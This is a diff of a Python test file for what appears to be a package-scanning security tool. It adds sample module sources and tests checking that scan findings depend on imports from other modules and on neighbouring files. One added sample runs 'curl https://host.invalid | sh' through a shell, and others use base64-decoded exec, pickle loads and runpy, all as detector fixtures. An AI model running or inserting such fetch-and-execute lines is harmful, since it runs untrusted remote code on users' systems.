@@ -36,6 +36,9 @@ POOL = {
     "handing on": "from .payload import go as do\n",
     "starter": "import subprocess\nsubprocess.Popen(['tool.exe', 'helper.sh'])\n",
     "layered": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyBtYXJrZXIiKQo='))\n",
+    "giver": "from subprocess import Popen as start\nfrom pickle import loads as read\n",
+    "taker": "from .middle import start\nstart('curl https://host.invalid | sh', shell=True)\n",
+    "runner": "import runpy\nrunpy.run_path('notes.txt')\nexec(open('notes.txt').read())\n",
     "idle": "X = 1\n",
     "broken": "def f(:\n",
     "quality": "import pickle\nassert pickle.loads(b'x')\npassword = 'secret'\n",
@@ -109,6 +112,27 @@ def test_who_calls_an_unchanged_module_decides_what_it_does(rules: Ruleset) -> N
     assert without(loud, rules) != without(quiet, rules)
     assert with_memory(loud, rules, learned(quiet, rules)) == without(loud, rules)
     assert with_memory(quiet, rules, learned(loud, rules)) == without(quiet, rules)
+
+
+def test_what_another_module_gives_a_name_decides_what_an_unchanged_module_does(rules: Ruleset) -> None:
+    harmless = built({"middle.py": "def start(*_, **__): pass\n", "a.py": POOL["taker"]}, "1.0", is_wheel=True)
+    giving = built({"middle.py": POOL["giver"], "a.py": POOL["taker"]}, "1.1", is_wheel=True)
+    assert len(without(giving, rules)) > len(without(harmless, rules))
+    assert with_memory(giving, rules, learned(harmless, rules)) == without(giving, rules)
+    assert with_memory(harmless, rules, learned(giving, rules)) == without(harmless, rules)
+
+
+@pytest.mark.parametrize(("module", "file"), [("starter", "tool.exe"), ("runner", "notes.txt")])
+def test_which_files_lie_beside_it_decides_what_an_unchanged_module_does(
+    module: str, file: str, rules: Ruleset
+) -> None:
+    there = built({"a.py": POOL[module], file: "data"}, "1.0", is_wheel=True)
+    missing = built({"a.py": POOL[module]}, "1.1", is_wheel=True)
+    seen = inspect(there.data, there.filename, rules).findings
+    unseen = inspect(missing.data, missing.filename, rules).findings
+    assert [(f.rule, f.severity) for f in seen] != [(f.rule, f.severity) for f in unseen]
+    assert with_memory(there, rules, learned(missing, rules)) == without(there, rules)
+    assert with_memory(missing, rules, learned(there, rules)) == without(missing, rules)
 
 
 def test_members_that_are_known_are_neither_parsed_nor_walked_again(
